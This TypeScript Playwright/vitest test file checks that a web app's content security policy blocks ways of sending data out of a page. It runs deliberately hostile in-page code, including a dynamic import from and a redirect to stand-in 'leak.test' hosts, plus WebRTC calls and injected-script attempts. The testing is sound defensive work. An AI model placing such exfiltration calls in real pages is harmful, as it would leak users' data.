import type { Page } from 'playwright-core';
import { afterAll, expect, test } from 'vitest';

import { serveAndBrowse } from '../support/e2e-app.ts';
import { startProxy, type RecordingProxy } from '../support/e2e-proxy.ts';
import { serveApp } from '../support/serve-app.ts';
import { listenForStun, type StunListener } from '../support/stun-listener.ts';
import { callByWebRtc, tryAllWays, tryToRunText } from '../support/ways-out.ts';

/*
 * Code that means harm and runs in the app all the same, as after a mistake of ours: which of the
 * ways out of a page it finds open. Each calls at a host of its own, and the proxy that stands
 * between the browser and every network notes who was called.
 */

/**
 * Going to another page, here or in a new window, is held back by no policy. WebRTC is not either,
 * and goes past the proxy to a listener of its own: `built-files` sees that nothing built knows of it.
 */
const OPEN = ['location', 'webrtc', 'window-open'];

let proxy: RecordingProxy;
let stun: StunListener;

const app = serveAndBrowse(async () => {
  proxy = await startProxy();
  stun = await listenForStun();
  return { proxy: { server: proxy.address, bypass: '<-loopback>' } };
});
afterAll(() => Promise.all([proxy.stop(), stun.stop()]));

type Attack = { readonly tried: readonly string[]; readonly called: readonly string[] };

/** Tries every way, and answers those by which somebody was called. */
async function attack(page: Page): Promise<Attack> {
  const before = proxy.asked.length;
  const packetsBefore = stun.count();
  const list = (): readonly string[] => {
    const called = proxy.asked.slice(before).flatMap((address) => {
      const [, way = ''] = /^https?:\/\/([\w-]+)\.leak\.test\b/.exec(address) ?? [];
      return way === '' ? [] : [way];
    });
    if (stun.count() > packetsBefore) called.push('webrtc');
    return [...new Set(called)].toSorted();
  };
  const tried = await page.evaluate(tryAllWays);
  await page.evaluate(callByWebRtc, stun.port);
  // As text, or the test's own tools would take the import for theirs.
  await page.evaluate(`void import('http://import.leak.test/x').catch(() => undefined)`);
  // What is not held back is on its way at once; a link to fetch later, when the page is idle.
  await page.waitForTimeout(1_500);
  await page.evaluate(() => {
    location.href = 'http://location.leak.test/x';
  });
  await expect.poll(list).toContain('location');
  return { tried: [...tried, 'import', 'webrtc', 'location'], called: list() };
}

test('of the ways out of a page only going to another one and WebRTC are open', async () => {
  const page = await app.visit('/about');
  expect((await page.evaluate(tryToRunText)).ran).toEqual([]);
  expect((await attack(page)).called).toEqual(OPEN);
});

test('the policy in the page itself does as much, where a host sends no headers', async () => {
  const bare = await serveApp(0, undefined, {});
  try {
    const page = await (await app.newContext()).newPage();
    await page.goto(`${bare.origin}/#/about`);
    await page.getByRole('heading', { level: 1, name: 'About this app' }).waitFor();
    expect((await page.evaluate(tryToRunText)).ran).toEqual([]);
    expect((await attack(page)).called).toEqual(OPEN);
  } finally {
    await bare.stop();
  }
});

test('without a policy every one of them would be seen', async () => {
  const page = await (await app.newContext()).newPage();
  await page.goto(`${app.origin()}/nothing-here`);
  const texts = await page.evaluate(tryToRunText);
  expect(texts.ran.toSorted()).toEqual(texts.tried.toSorted());
  const { tried, called } = await attack(page);
  console.log(
    `G31: ${called.length} of ${tried.length} ways out seen without a policy, ${OPEN.length} open with it; ${texts.tried.length} ways to run text, none open with it`,
  );
  expect(tried.length).toBeGreaterThan(20);
  expect(tried.filter((way) => !called.includes(way))).toEqual([]);
});
